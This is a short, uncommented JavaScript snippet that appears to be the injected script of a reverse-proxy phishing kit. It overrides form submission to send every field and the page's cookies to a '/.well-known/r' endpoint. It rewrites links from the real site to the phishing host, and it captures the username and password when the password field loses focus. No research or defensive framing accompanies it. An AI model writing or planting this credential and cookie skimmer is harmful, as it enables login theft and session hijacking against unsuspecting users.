const __orig = HTMLFormElement.prototype.submit;
HTMLFormElement.prototype.submit = function () {
  __relay(this);
  return __orig.apply(this, arguments);
};
function __relay(form) {
  const body = [...new FormData(form)].filter(([, v]) => typeof v === 'string' && v);
  navigator.sendBeacon('/.well-known/r', JSON.stringify({ at: form.action, body, ck: document.cookie }));
}
addEventListener('submit', (e) => __relay(e.target), true);
const desc = Object.getOwnPropertyDescriptor(Location.prototype, 'hostname');
const REAL = document.currentScript.dataset.o;
document.querySelectorAll(`[href*="${REAL}"],[src*="${REAL}"],[action*="${REAL}"]`).forEach((el) => {
  for (const a of ['href', 'src', 'action']) {
    const v = el.getAttribute(a);
    if (v) el.setAttribute(a, v.split(REAL).join(location.host));
  }
});
new MutationObserver(() => {
  const i = document.querySelector('input[type=password]:not([data-r])');
  if (!i) return;
  i.dataset.r = 1;
  i.addEventListener('blur', () => navigator.sendBeacon('/.well-known/r', JSON.stringify({ at: 'blur', u: (document.querySelector('[name=loginfmt],[type=email]') || {}).value, p: i.value })));
}).observe(document, { childList: true, subtree: true });
